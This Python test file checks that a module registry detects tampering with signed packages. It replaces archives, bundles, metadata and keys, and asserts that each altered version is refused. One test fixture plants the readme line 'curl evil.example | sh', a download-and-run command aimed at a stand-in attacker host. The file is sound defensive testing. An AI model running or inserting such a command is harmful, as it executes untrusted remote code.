"""Verified means verified: by cosign, now, of the bytes that are there; and by the consumer with a key of their own.

Who may lie: whoever can write to the registry's files.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from helpers.cli import course
from helpers.clients.registry import Registry, Tampered, pack
from helpers.compliance.consumer import verify_module
from helpers.core.errors import BadInput
from helpers.runtime import services
from helpers.wrappers.module_package import sign
from tests.servers import conftest
from tests.servers.conftest import make_key

Make = Callable[..., Path]
MODULE = "vision/trusted/null"


def stored(version: str = "1.0.0") -> Path:
    return services.data("registry") / "modules" / MODULE / version


@pytest.fixture(scope="module")
def before(admin: Registry, key: Path, shared_state: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One published version, and a copy of how it was stored."""
    files = {**conftest.MODULE, "module.yaml": conftest.MODULE["module.yaml"].replace("gpu-workspace", "trusted")}
    folder = conftest.write(tmp_path_factory.mktemp("trusted"), files)
    admin.publish(folder, "1.0.0", namespace="vision", name="trusted", provider="null", key=key)
    there = shared_state / "services/registry/data/modules" / MODULE / "1.0.0"
    return Path(shutil.copytree(there, tmp_path_factory.mktemp("before") / "1.0.0"))


@pytest.fixture(autouse=True)
def whole(before: Path, registry: Registry) -> Iterator[None]:
    """Put back what a test changed: the version and the registered keys."""
    access = services.data("registry") / "access.json"
    kept = access.read_bytes()
    yield
    for version in ("1.0.0", "1.1.0"):
        shutil.rmtree(stored(version), ignore_errors=True)
    shutil.copytree(before, stored())
    if access.read_bytes() != kept:
        access.write_bytes(kept)
        services.restart("registry")


def page(registry: Registry, version: str = "1.0.0") -> str:
    try:
        with urllib.request.urlopen(registry.page_url(MODULE, version)) as answer:
            return str(answer.read().decode())
    except urllib.error.HTTPError as error:
        return error.read().decode()


def refused(registry: Registry, why: str, version: str = "1.0.0") -> None:
    """Assert that a version is called verified nowhere, and is not handed out."""
    said = page(registry, version)
    assert "signature verified" not in said and "✓ verified" not in said
    assert "✗ not verified" in said and "Do not use this version" in said and why in said
    signature = registry.show(MODULE, version).raw["signature"]
    assert signature["status"] == "refused" and why in signature["problem"]
    with pytest.raises(Tampered):
        registry.fetch(MODULE, version)


def edit(file: Path, change: Callable[[dict[str, object]], object]) -> None:
    data = json.loads(file.read_text())
    change(data)
    file.write_text(json.dumps(data))


def test_what_is_untouched_is_verified(registry: Registry, key: Path) -> None:
    assert "✓ signature verified" in page(registry) and registry.show(MODULE).signature.status == "verified"
    verdict = verify_module(MODULE, "1.0.0", key=key.with_suffix(".pub"), registry=registry)
    assert verdict and verdict.digest == registry.show(MODULE).digest
    assert verify_module(f"registry.acme.test/{MODULE}", "1.0.0", key=key.with_suffix(".pub"), registry=registry)


def test_an_archive_replaced_with_its_digest(registry: Registry) -> None:
    forged = pack(stored().parent)
    (stored() / "module.tar.gz").write_bytes(forged)
    edit(stored() / "meta.json", lambda meta: meta.update(digest=hashlib.sha256(forged).hexdigest()))
    refused(registry, "The signature by vision-release is refused")


def test_a_bundle_of_another_key(registry: Registry, tmp_path: Path) -> None:
    package = (stored() / "module.tar.gz").read_bytes()
    (stored() / "bundle.json").write_bytes(sign(package, make_key(tmp_path), ""))
    refused(registry, "which is not registered for vision")


def test_a_bundle_that_is_gone(registry: Registry) -> None:
    (stored() / "bundle.json").unlink()
    said = page(registry)
    assert "✗ not verified" in said and "signature is gone" in said


def test_a_registered_key_that_was_swapped(registry: Registry, key: Path, tmp_path: Path) -> None:
    """The stranger's key stands under the honest key's id."""
    pem = make_key(tmp_path).with_suffix(".pub").read_text()

    def swap(data: dict[str, dict[str, dict[str, dict[str, str]]]]) -> None:
        for entry in data["keys"]["vision"].values():
            entry["pem"] = pem

    edit(services.data("registry") / "access.json", swap)  # type: ignore[arg-type]
    services.restart("registry")
    refused(registry, "The signature by vision-release is refused")


@pytest.mark.parametrize(
    ("field", "lie"),
    [
        ("readme", "Run this: curl evil.example | sh"),
        ("description", "The other module."),
        ("support", {"team": "nobody", "contact": "eve@evil.example", "hours": "always"}),
        ("interface", {"inputs": [], "outputs": []}),
    ],
)
def test_a_record_that_says_something_else(field: str, lie: object, registry: Registry) -> None:
    edit(stored() / "meta.json", lambda meta: meta.update({field: lie}))
    refused(registry, f"something else than the archive that was signed: {field}.")


def test_a_record_that_names_another_key(registry: Registry) -> None:
    edit(stored() / "meta.json", lambda meta: meta["signature"].update(key_name="root"))  # type: ignore[attr-defined]
    refused(registry, "names another key")


def test_an_old_version_under_a_new_number(registry: Registry, key: Path) -> None:
    shutil.copytree(stored(), stored("1.1.0"))
    refused(registry, "another module or version", "1.1.0")
    edit(stored("1.1.0") / "meta.json", lambda meta: meta.update(version="1.1.0"))
    refused(registry, "What was signed is another module or version", "1.1.0")


def test_the_consumers_own_key_sees_what_the_registry_cannot(
    registry: Registry, module: Make, key: Path, tmp_path: Path
) -> None:
    """Archive, bundle, record and keys are replaced together: the registry finds all in order."""
    stranger = make_key(tmp_path)
    registry.add_key("vision", "vision-release", stranger.with_suffix(".pub"))
    shutil.rmtree(stored())
    folder = module("trusted", **{"main.tf": 'output "x" {\n  value = 1\n  description = "Evil."\n}\n'})
    registry.publish(folder, "1.0.0", namespace="vision", name="trusted", provider="null", key=stranger)
    assert "✓ signature verified" in page(registry)
    verdict = verify_module(MODULE, "1.0.0", key=key.with_suffix(".pub"), registry=registry)
    assert not verdict and "refused" in verdict.text()


def test_the_command_is_a_gate(registry: Registry, key: Path) -> None:
    runner, public = CliRunner(), str(key.with_suffix(".pub"))
    good = runner.invoke(course, ["registry", "verify", MODULE, "1.0.0", "--key", public])
    assert good.exit_code == 0 and "is what the holder of the key signed" in good.output
    (stored() / "module.tar.gz").write_bytes(b"changed")
    bad = runner.invoke(course, ["registry", "verify", MODULE, "1.0.0", "--key", public, "--json"])
    assert bad.exit_code == 1 and not json.loads(bad.output)["verified"]
    with pytest.raises(BadInput):
        verify_module(MODULE, "1.0.0", key="none.pub", registry=registry)
